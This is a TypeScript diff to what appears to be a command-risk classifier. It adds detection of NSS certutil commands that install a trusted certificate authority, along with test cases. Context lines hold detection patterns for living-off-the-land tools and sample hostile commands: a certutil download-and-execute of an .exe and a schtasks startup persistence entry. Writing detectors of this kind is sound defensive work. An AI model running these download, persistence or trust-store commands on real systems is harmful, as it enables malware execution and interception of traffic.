@@ -116,6 +116,16 @@ function fetchesBy(argv: readonly Word[], marks: RegExp): readonly Draft[] {
   return [onHost('download', url), { kind: 'execute', target: url, on: 'resource', deed: 'odd-download' }];
 }
 
+/** Flags of NSS's certutil: `C` and `T` make an authority, `P` a trusted peer (certutil(1)). */
+function trusted(argv: readonly Word[]): readonly Draft[] {
+  const texts = argv.map(literalText);
+  const flags = texts.indexOf('-t');
+  const adds = texts.some(one => /^-[AM]$/.test(one));
+  return adds && flags > 0 && /[CT]/.test(texts[flags + 1] ?? '')
+    ? [{ kind: 'configure', target: argv[0] ?? [], on: 'resource', deed: 'trusted-certificate' }]
+    : [];
+}
+
 function power(argv: readonly Word[]): readonly Draft[] {
   return argv.length > 1 ? [onThing('kill', word(literalText(argv[1] ?? [])), 'shutdown')] : [];
 }
@@ -251,9 +261,14 @@ export const WINDOWS: Family = {
       { 'schtasks /query': '', 'schtasks /create /tn x /tr c:/x.exe /sc onstart': 'persist' },
     ),
     'certutil|bitsadmin|mshta|regsvr32': model(
-      (_, argv) => fetchesBy(argv, /urlcache|verifyctl|transfer|addfile|^(?:https?|ftp):|:https?:/i),
+      (_, argv) => [
+        ...fetchesBy(argv, /urlcache|verifyctl|transfer|addfile|^(?:https?|ftp):|:https?:/i),
+        ...trusted(argv),
+      ],
       {
         'certutil /?': '',
+        'certutil -A -n x -t ",," -i a.crt -d .': '',
+        'certutil -A -n x -t "C,," -i a.crt -d .': 'configure',
         'certutil -urlcache /transfer -f https://x.test/x.exe x.exe': 'download execute',
       },
     ),
